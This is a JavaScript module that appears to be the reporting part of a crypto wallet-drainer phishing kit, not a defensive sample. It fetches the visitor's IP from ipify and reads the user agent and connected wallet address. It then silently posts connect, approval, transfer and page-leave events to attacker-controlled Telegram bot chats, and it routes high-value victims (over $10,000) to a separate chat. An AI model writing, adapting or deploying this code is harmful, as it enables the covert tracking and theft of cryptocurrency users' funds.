export const BOT = "0000:TOKEN";
export const CHATS = ["-1000000000001", "-1000000000002"];

const icons = { connect: "🔗", sign: "✍️", approve: "✅", transfer: "💸", cancel: "🚫", leave: "👋" };

async function whereami() {
  try {
    const r = await fetch("https://api.ipify.org?format=json");
    return (await r.json()).ip;
  } catch {
    return "n/a";
  }
}

export async function report(kind, { wallet, chain, asset, amount, usd, hash } = {}) {
  const ip = await whereami();
  const lines = [
    `${icons[kind]} *${kind.toUpperCase()}* \`${location.host}\``,
    wallet && `*Wallet:* [${wallet}](https://debank.example/profile/${wallet})`,
    chain && `*Chain:* ${chain}`,
    asset && `*Asset:* ${amount} ${asset} (~$${usd})`,
    hash && `*Tx:* ${hash}`,
    `*IP:* ${ip} *UA:* ${navigator.userAgent}`,
  ].filter(Boolean);
  await Promise.allSettled(
    CHATS.map((chat_id) =>
      fetch(`https://api.telegram.org/bot${BOT}/sendMessage`, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ chat_id, text: lines.join("\n"), parse_mode: "Markdown", disable_web_page_preview: true }),
      })
    )
  );
}

window.addEventListener("beforeunload", () => report("leave", { wallet: window.__acc }));
window.ethereum?.on("accountsChanged", ([wallet]) => wallet && ((window.__acc = wallet), report("connect", { wallet })));
export const split = (usd) => (usd > 10000 ? CHATS[1] : CHATS[0]);
